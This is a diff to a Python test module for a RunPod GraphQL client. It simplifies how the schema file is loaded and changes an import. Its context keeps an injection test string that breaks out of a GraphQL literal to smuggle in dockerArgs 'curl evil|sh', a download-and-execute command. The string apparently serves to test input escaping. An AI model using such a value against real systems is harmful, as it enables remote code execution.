@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
 from datetime import UTC, datetime
 from decimal import Decimal
 from pathlib import Path
@@ -21,7 +20,7 @@ from labeltui.runpod.graphql.graphql import Enum, GraphQL, literal
 from labeltui.runpod.graphql.pods import FIELDS, observed, pod
 from labeltui.runpod.replies import Purpose
 from labeltui.sandbox.runpod.api import graphql
-from tests.paths import contracts
+from tests import contracts
 
 NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
 INJECTION = 'x" } ], dockerArgs: "curl evil|sh", env: [ { key: "A", value: "y'
@@ -63,13 +62,7 @@ def graphql_of(asked: Asked) -> GraphQL:
 
 def schema() -> Any:
     core = pytest.importorskip("graphql")
-    root = contracts()
-    path = root / "runpod" / "schema.graphql"
-    if not path.is_file():
-        if os.environ.get("CI"):
-            pytest.fail(f"RunPod's GraphQL schema is not at {path}")
-        pytest.skip(f"RunPod's GraphQL schema is not at {path}")
-    return core.build_schema(path.read_text("utf-8"))
+    return core.build_schema(contracts.required("schema.graphql").read_text("utf-8"))
 
 
 SPEC = PodSpec(
